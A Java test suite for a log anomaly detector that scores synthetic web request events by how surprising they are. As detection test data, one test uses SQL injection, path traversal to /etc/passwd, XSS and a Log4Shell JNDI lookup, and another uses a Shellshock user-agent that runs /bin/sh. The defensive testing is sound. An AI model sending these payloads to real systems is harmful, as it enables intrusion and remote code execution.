package io.dawnwatch.engine.detect;

import static org.assertj.core.api.Assertions.assertThat;

import io.dawnwatch.engine.event.KeyValue;
import io.dawnwatch.engine.event.Severity;
import java.util.SplittableRandom;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;

class EventEvidenceTest extends EventDetectorContract {
  private static final long COMMON = 11;
  private static final long RARE = 77;
  private static final double[] GRAVITY = {0, -2, -2, -2, 2, 5, 8};
  private static final byte[] PART = EventEvidence.part(table(), contents());

  private static TemplateTable table() {
    int info = 1 << Severity.INFO.ordinal();
    return new TemplateTable(
        Long.MAX_VALUE,
        new long[] {COMMON, RARE},
        new double[] {0.1, 7},
        new int[] {info, info},
        9,
        new double[7],
        GRAVITY);
  }

  private static ContentModel contents() {
    ContentModel one = new ContentModel();
    ContentModel other = new ContentModel();
    SplittableRandom random = new SplittableRandom(1);
    for (int i = 0; i < 4_000; i++) {
      ContentModel learner = i % 2 == 0 ? one : other;
      learner.learn(request(random));
    }
    for (int i = 0; i < 4_000; i++) {
      one.judge(request(random), other);
    }
    one.add(other);
    return one;
  }

  private static io.dawnwatch.engine.event.LogEvent request(SplittableRandom random) {
    String[] pages = {"index", "about", "search", "images/logo", "news/today"};
    String page = pages[random.nextInt(pages.length)];
    return event(
        Severity.INFO,
        "GET /" + page + ".html?item=" + random.nextInt(10_000) + " 200",
        new KeyValue("agent", "Browser/" + random.nextInt(9) + ".0"));
  }

  @Override
  String name() {
    return EventEvidence.NAME;
  }

  @Override
  byte[] part() {
    return PART;
  }

  @Override
  long knownTemplate() {
    return COMMON;
  }

  private double surprise(Severity severity, String body, long template) {
    return detector().surprise(view(severity, body, template));
  }

  @Example
  void whatItReadsItWritesAgain() {
    assertThat(EventEvidence.of(PART).toPart()).isEqualTo(PART);
  }

  @Example
  void anOrdinaryEventIsHardlySurprising() {
    assertThat(surprise(Severity.INFO, "GET /index.html?item=17 200", COMMON)).isLessThan(3);
  }

  @Example
  void aRareTemplateSaysMoreThanACommonOneAndANewOneStillMore() {
    String body = "GET /index.html?item=17 200";
    double common = surprise(Severity.UNSPECIFIED, body, COMMON);
    assertThat(surprise(Severity.INFO, body, RARE)).isGreaterThan(3);
    assertThat(surprise(Severity.UNSPECIFIED, body, 99)).isGreaterThanOrEqualTo(common);
    assertThat(surprise(Severity.UNSPECIFIED, body, 99)).isEqualTo(9);
  }

  @Property
  void aGraverEventIsNeverLessSurprising(@ForAll long template, @ForAll String body) {
    double before = 0;
    for (Severity severity :
        new Severity[] {Severity.INFO, Severity.WARN, Severity.ERROR, Severity.FATAL}) {
      double nats = surprise(severity, body, template == COMMON || template == RARE ? 5 : template);
      assertThat(nats).isGreaterThanOrEqualTo(before);
      before = nats;
    }
  }

  @Example
  void contentOfAnotherKindIsSurprisingInAKnownTemplate() {
    double usual = surprise(Severity.INFO, "GET /search.html?item=4711 200", COMMON);
    for (String foreign :
        new String[] {
          "GET /search.html?item=1%27%20OR%20%271%27=%271 200",
          "GET /../../../../etc/passwd 200",
          "GET /search.html?item=<script>alert(1)</script> 200",
          "GET /search.html?item=${jndi:ldap://x/a} 200"
        }) {
      assertThat(surprise(Severity.INFO, foreign, COMMON)).isGreaterThan(usual + 4);
    }
  }

  @Example
  void aForeignAttributeIsNamedInTheReason() {
    EventView view =
        view(
            Severity.INFO,
            "GET /index.html?item=17 200",
            COMMON,
            new KeyValue("agent", "() { :; }; /bin/sh -c id"));
    java.util.List<Contribution> said = new java.util.ArrayList<>();
    detector().explain(view, said);
    assertThat(said)
        .singleElement()
        .extracting(Contribution::text)
        .asString()
        .contains("agent", "/bin/sh");
  }

  @Example
  void aTemplateThatTrainingHadNoRoomForIsJudgedByItsContentAlone() {
    assertThat(surprise(Severity.FATAL, "GET /index.html?item=17 200", -5)).isLessThan(3);
  }
}
